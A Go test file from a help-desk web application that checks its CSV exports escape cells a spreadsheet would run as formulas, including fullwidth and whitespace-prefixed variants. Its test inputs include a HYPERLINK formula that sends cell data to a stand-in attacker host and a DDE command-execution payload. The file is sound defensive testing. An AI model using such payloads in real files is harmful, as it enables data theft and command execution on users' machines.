package web_test

import (
	"bytes"
	"encoding/csv"
	"net/url"
	"slices"
	"strings"
	"testing"

	"parley/models"
	"parley/web"
	"parley/web/kit"
)

// formulas are texts that a spreadsheet would execute.
var formulas = []string{
	"=1+1",
	"+1+1",
	"-1+1",
	"@SUM(A1)",
	"\t=1+1",
	"\r=1+1",
	"\n=1",
	"\"=1+1\"",
	"'=1+1",
	" =1+1",
	"　=1+1",
	"\u200b=1+1",
	"“=1+1”",
	"＝1+1",
	"＋1",
	"－x",
	"＠SUM(A1)",
	"﹦1",
	"−x",
	`=HYPERLINK("https://evil.example?x="&A1,"open")`,
	"=cmd|'/c calc'!A0",
}

func TestCellsThatBeginAFormulaArePlain(t *testing.T) {
	t.Parallel()
	for _, text := range formulas {
		if got := kit.EscapeCSVCell(text); got != "'"+text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
	for _, text := range []string{"", "5", "Anna", "a=b", "2026-11-24T10:00:00Z", "x-y", "“quoted”", "'", "\"", "您好", "{\"value\": 1}", "no_available_service"} {
		if got := kit.EscapeCSVCell(text); got != text {
			t.Errorf("%q becomes %q", text, got)
		}
	}
}

// TestNoFileHoldsAFormula exports every CSV file of the route table after all names were set to formulas. Each file has one UTF-8 byte
// order mark.
func TestNoFileHoldsAFormula(t *testing.T) {
	t.Parallel()
	h := startServer(t)
	_, alex := h.agent("alex", models.RoleAdmin, func(n *models.NewAgent) { n.Name = "=1+alex" })
	for _, slug := range []string{"cards", "parcels"} {
		if _, err := h.desk.AddDepartment(t.Context(), admin, slug, "@"+slug); err != nil {
			t.Fatal(err)
		}
	}
	for i, name := range formulas {
		reply := models.NewCannedReply{
			Scope: models.CannedEveryone, Shortcut: "reply" + string(rune('a'+i)), Title: "A" + name, Body: name,
		}
		if _, err := h.desk.AddCannedReply(t.Context(), admin, reply); err != nil {
			t.Fatal(err)
		}
		id := "user" + string(rune('a'+i))
		if _, err := h.desk.EnsureUser(t.Context(), models.Identity{ID: id, Name: name, Email: "=" + id + "@example.com"}); err != nil {
			t.Fatal(err)
		}
		got, err := h.desk.Assign(t.Context(), id, models.AssignRequest{Message: name, Department: "cards", PageTitle: name})
		if err != nil {
			t.Fatal(err)
		}
		h.browse("GET", "/supervisor/chats/"+got.Chat.ID, alex, nil).want(200)
		if _, err := h.desk.SetPriority(t.Context(), admin, got.Chat.ID, -7); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := h.desk.EnsureUser(t.Context(), models.Identity{ID: "=id", Name: "no"}); err != nil {
		t.Fatal(err)
	}
	if err := h.desk.RenameDepartment(t.Context(), admin, "parcels", "+parcels"); err != nil {
		t.Fatal(err)
	}
	_, guest := h.guest()
	h.browse("POST", "/login", alex, url.Values{"email": {"=x@example.com"}, "password": {"=wrong"}})
	last := h.asks(guest, "The end")
	if _, err := h.desk.End(t.Context(), admin, last, ""); err != nil {
		t.Fatal(err)
	}
	if _, err := h.desk.DB().NewRaw(`UPDATE chats SET outcome = '=outcome', tags = '{@tag}'`).Exec(t.Context()); err != nil {
		t.Fatal(err)
	}
	_, err := h.desk.DB().NewRaw(`INSERT INTO alerts (kind, threshold, hold_seconds, window_minutes, value, worst, raised_at)
		VALUES ('queue_length', 1, 0, 0, 2, 2, now())`).Exec(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if err := h.desk.Sample(t.Context()); err != nil {
		t.Fatal(err)
	}
	files, defused := 0, 0
	for _, line := range web.Lines() {
		if !strings.HasSuffix(line.Path, ".csv") {
			continue
		}
		files++
		got := h.browse(line.Method, line.Path, alex, nil).want(200)
		// Excel detects UTF-8 only by the byte order mark.
		body, marked := bytes.CutPrefix(got.Body, []byte("\xef\xbb\xbf"))
		if kind := got.Header.Get(
			"Content-Type",
		); !marked || bytes.HasPrefix(body, []byte("\xef\xbb\xbf")) ||
			kind != "text/csv; charset=utf-8" {
			t.Errorf("%s begins with %q and is %s", line.Path, got.Body[:min(8, len(got.Body))], kind)
		}
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil || len(rows) < 2 || strings.ContainsAny(rows[0][0], "\"\ufeff") {
			t.Fatalf("%s has %d rows: %v", line.Path, len(rows), err)
		}
		for _, cell := range slices.Concat(rows...) {
			bare := strings.TrimLeft(cell, "\"“ \u3000\u200b\n\r\t")
			if strings.HasPrefix(cell, "'") {
				defused++
			} else if bare != "" && cell != "-7" && strings.ContainsAny(string([]rune(bare)[0]), "=+-@＝＋－＠−﹦") {
				t.Errorf("%s has the cell %q", line.Path, cell)
			}
		}
	}
	if files < 3 || defused < len(formulas)+2 {
		t.Errorf("%d files with %d cells that were made plain", files, defused)
	}
}
